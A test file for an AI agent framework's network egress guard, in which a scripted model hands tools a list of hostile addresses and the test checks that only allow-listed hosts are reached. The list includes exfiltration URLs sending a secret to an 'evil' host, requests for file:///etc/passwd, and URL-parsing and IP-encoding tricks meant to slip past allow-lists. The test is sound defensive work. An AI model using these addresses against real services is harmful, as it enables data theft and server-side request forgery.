// A53, the half that is the network's: whatever address a gullible model hands to a tool, nothing reaches a host that the
// tool does not list. Real servers on the loopback; what counts is what the wrong one heard.

import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { describe, expect, onTestFinished, test as once } from 'vitest'
import { z } from 'zod'
import { defineAgent } from '../src/core/agent.ts'
import { defineContext } from '../src/core/context.ts'
import { isFault } from '../src/core/fault.ts'
import { defineTool, type ToolCall } from '../src/core/tool.ts'
import { egressDoor } from '../src/egress.ts'
import { createOrchestrator } from '../src/orchestrator.ts'
import { scriptedModel } from '../src/providers/scripted.ts'
import { address, test } from './engines.ts'

interface Listening {
  /** `127.0.0.1:PORT`. */
  readonly host: string
  readonly port: number
  readonly heard: { method: string; path: string; headers: IncomingMessage['headers']; body: string }[]
}

async function listen(
  answer: (request: IncomingMessage, response: ServerResponse) => void = (_, response) => response.end('ok'),
): Promise<Listening> {
  const heard: Listening['heard'] = []
  const server = createServer((request, response) => {
    let body = ''
    request.on('data', (chunk: Buffer) => (body += String(chunk)))
    request.on('end', () => {
      heard.push({ method: request.method!, path: request.url!, headers: request.headers, body })
      answer(request, response)
    })
  })
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready))
  onTestFinished(() => {
    server.closeAllConnections()
    server.close()
  })
  const { port } = server.address() as AddressInfo
  return { host: `127.0.0.1:${port}`, port, heard }
}

/** Answers `/to?status=S&at=ADDRESS` with a redirect, `/hops/N` with N of them, and anything else well. */
const redirects = (request: IncomingMessage, response: ServerResponse): void => {
  const { pathname, searchParams } = new URL(request.url!, 'http://here')
  const [, hops] = /^\/hops\/(\d+)$/.exec(pathname) ?? []
  if (pathname === '/to') response.writeHead(Number(searchParams.get('status')), { location: searchParams.get('at')! })
  else if (hops !== undefined && hops !== '0') response.writeHead(302, { location: `/hops/${Number(hops) - 1}` })
  response.end('ok')
}
const to = (host: string, at: string, status = 302): string =>
  `http://${host}/to?status=${status}&at=${encodeURIComponent(at)}`

const never = new AbortController().signal
const refusal = (asked: Promise<unknown>): Promise<string> =>
  asked.then(
    () => 'it was answered',
    (thrown: unknown) => (isFault(thrown, 'EGRESS_REFUSED') ? thrown.message : `something else: ${String(thrown)}`),
  )

test('A53: a model that hands every kind of address to a tool reaches the listed host and no other', async () => {
  const [good, evil] = [await listen(redirects), await listen()]
  const secret = 'c2VjcmV0LWRhdGE'
  const addresses = [
    `http://${evil.host}/?data=${secret}`,
    to(good.host, `http://${evil.host}/?data=${secret}`),
    to(good.host, `//${evil.host}/${secret}`, 301),
    to(good.host, to(good.host, `http://${evil.host}/`, 307), 308),
    to(good.host, `http:\\\\${evil.host}\\`, 303),
    to(good.host, 'file:///etc/passwd'),
    `http://${secret}.localhost:${evil.port}/`,
    `http://${secret}.${good.host}/`,
    `http://${good.host}@${evil.host}/`,
    `http://good:pw@${evil.host}/`,
    `http://${good.host}\\@${evil.host}/`,
    `http://2130706433:${evil.port}/`,
    `http://0x7f000001:${evil.port}/`,
    `http://127.1:${evil.port}/`,
    `http://[::ffff:127.0.0.1]:${evil.port}/`,
    `http://localhost:${evil.port}/`,
    `//${evil.host}/${secret}`,
    'file:///etc/passwd',
    `data:text/plain,${secret}`,
    `ws://${evil.host}/`,
  ]
  const names = [
    `//${evil.host}/x`,
    `http://${evil.host}/x`,
    `\\\\${evil.host}\\x`,
    `/\\${evil.host}/x`,
    `/\t/${evil.host}/x`,
  ]
  const get = defineTool({
    name: 'get',
    description: 'Reads an address.',
    inputSchema: z.object({ url: z.string() }),
    egress: [good.host],
    execute: async ({ url }, { fetch }) => (await fetch(url)).text(),
  })
  const attach = defineTool({
    name: 'attach',
    description: 'Attaches a file by its name.',
    inputSchema: z.object({ name: z.string() }),
    egress: [good.host],
    execute: async ({ name }, { fetch }) => (await fetch(new URL(name, `http://${good.host}/files/`))).text(),
  })
  const calls = [
    ...addresses.map((url) => ({ name: 'get', arguments: { url } })),
    ...names.map((name) => ({ name: 'attach', arguments: { name } })),
  ]
  const agent = defineAgent({
    name: 'reader',
    version: '1',
    context: defineContext({ goal: z.string() }),
    limits: { toolCalls: 100, steps: 200 },
    initial: 'read',
    on: { $error: 'failed', $timeout: 'failed' },
    states: {
      read: { model: 'main', prompt: 'p', tools: [get, attach], on: { OK: 'done' } },
      done: { type: 'final' },
      failed: { type: 'final', failure: true },
    },
  })
  const honest = [
    { name: 'get', arguments: { url: `http://${good.host}/honest` } },
    { name: 'get', arguments: { url: to(good.host, '/honest') } },
    { name: 'attach', arguments: { name: 'report.txt' } },
  ]
  const box = await createOrchestrator({
    store: await address(),
    agents: [agent],
    models: { main: scriptedModel([{ calls }, { calls: honest }, { calls: [{ name: 'OK', arguments: {} }] }]) },
    env: {},
  })
  onTestFinished(() => box.stop(100))
  const { outcome } = await (await box.start(agent, { goal: 'g' }, { id: 't' })).result()
  expect(outcome).toBe('done')
  expect(evil.heard).toEqual([])
  const events = await box.store.read('t')
  const failed = events.flatMap(({ type, data }) => (type === 'tool.failed' ? [data] : []))
  const refused = events.flatMap(({ type, data }) => (type === 'step.refused' ? [data] : []))
  // Each was refused once, before it was permitted or at the door; what is refused is not tried again.
  expect(failed.length + refused.length).toBe(calls.length)
  expect(failed.length).toBeGreaterThan(0)
  for (const failure of failed) {
    expect(failure.class).toBe('invalid-request')
    expect(failure.message).toMatch(/^EGRESS_REFUSED The tool (get|attach) may not speak to that address: /)
    expect(failure.message).not.toContain('/?data=')
  }
  for (const { reason, rule } of refused) expect([reason, rule]).toEqual(['policy-denied', 'egress'])
  expect(events.filter(({ type }) => type === 'tool.answered')).toHaveLength(honest.length)
  expect(good.heard.filter(({ path }) => path === '/honest')).toHaveLength(2)
  expect(good.heard.filter(({ path }) => path === '/files/report.txt')).toHaveLength(1)
  // The door alone refuses them all as well.
  const door = egressDoor('get', [good.host], never)
  for (const url of addresses) expect(await refusal(door(url)), url).toContain('may not speak to that address')
  expect(evil.heard).toEqual([])
  // The count can count: without the door the same addresses arrive.
  const arrived = await Promise.all(
    [addresses[0]!, addresses[1]!, addresses[4]!, addresses[11]!].map((url) => fetch(url).then(() => 1)),
  )
  expect(evil.heard).toHaveLength(arrived.length)
})

describe('the door to the network', () => {
  once('of a tool that lists no hosts is shut', async () => {
    const good = await listen()
    for (const hosts of [undefined, []]) {
      expect(await refusal(egressDoor('t', hosts, never)(`http://${good.host}/`))).toContain(
        'It lists no hosts in egress.',
      )
    }
    expect(good.heard).toEqual([])
  })

  once('follows five redirects, and not a sixth', async () => {
    const good = await listen(redirects)
    const door = egressDoor('t', [good.host], never)
    expect((await door(`http://${good.host}/hops/5`)).status).toBe(200)
    expect(good.heard).toHaveLength(6)
    expect(await refusal(door(`http://${good.host}/hops/6`))).toContain('it redirects more than 5 times')
    expect(good.heard).toHaveLength(12)
  })

  once('hands a redirect back, or refuses it, where that is asked for', async () => {
    const good = await listen(redirects)
    const door = egressDoor('t', [good.host], never)
    expect((await door(`http://${good.host}/hops/1`, { redirect: 'manual' })).status).toBe(302)
    expect(await refusal(door(`http://${good.host}/hops/1`, { redirect: 'error' }))).toContain('that was not wanted')
    expect(good.heard).toHaveLength(2)
  })

  once('tells another listed host nothing that was meant for the first', async () => {
    const [good, other] = [await listen(redirects), await listen()]
    const door = egressDoor('t', [good.host, other.host], never)
    const headers = { authorization: 'Bearer x', cookie: 'a=b', 'x-api-key': 'k', accept: 'text/plain' }
    await door(to(good.host, `http://${other.host}/x`), { headers })
    await door(to(good.host, `http://${other.host}/x`), { headers, method: 'POST', body: 'secret' })
    for (const { method, headers: told, body } of other.heard) {
      expect([method, body]).toEqual(['GET', ''])
      expect(told).toMatchObject({ accept: 'text/plain' })
      for (const name of ['authorization', 'cookie', 'x-api-key']) expect(told).not.toHaveProperty(name)
    }
    expect(other.heard).toHaveLength(2)
    const again = door(to(good.host, `http://${other.host}/x`, 307), { method: 'POST', body: 'secret' })
    expect(await refusal(again)).toContain('it redirects what was sent to another host')
    expect(other.heard).toHaveLength(2)
  })

  once('sends again to the same host what can be sent again, with its headers', async () => {
    const good = await listen(redirects)
    const door = egressDoor('t', [good.host], never)
    const sent = { method: 'PUT', body: 'text', headers: { 'x-api-key': 'k' } }
    await door(to(good.host, '/x', 308), sent)
    expect(good.heard.at(-1)).toMatchObject({ method: 'PUT', path: '/x', body: 'text', headers: { 'x-api-key': 'k' } })
    const stream = new Blob(['text']).stream()
    const streamed = { method: 'PUT', body: stream, duplex: 'half' } as RequestInit
    expect(await refusal(door(to(good.host, '/x', 308), streamed))).toContain('cannot be sent again')
  })

  once('does not speak to a host in the name of another', async () => {
    const good = await listen()
    const asked = egressDoor('t', [good.host], never)(`http://${good.host}/`, { headers: { Host: 'evil.example' } })
    expect(await refusal(asked)).toContain('in the name of another host')
    expect(good.heard).toEqual([])
  })

  once('takes an address, and nothing that holds one', async () => {
    const good = await listen()
    const door = egressDoor('t', [good.host], never)
    expect(await refusal(door(new Request(`http://${good.host}/`) as never))).toContain('neither a text nor a URL')
    expect((await door(new URL(`http://${good.host}/`))).status).toBe(200)
  })

  once('shuts when the call is called off, and when the tool itself wants it', async () => {
    const silent = await listen(() => undefined)
    for (const which of [0, 1]) {
      const controllers = [new AbortController(), new AbortController()]
      const door: ToolCall['fetch'] = egressDoor('t', [silent.host], controllers[0]!.signal)
      const asked = door(`http://${silent.host}/`, { signal: controllers[1]!.signal })
      setTimeout(() => controllers[which]!.abort(), 20)
      await expect(asked).rejects.toThrow('aborted')
    }
  })
})
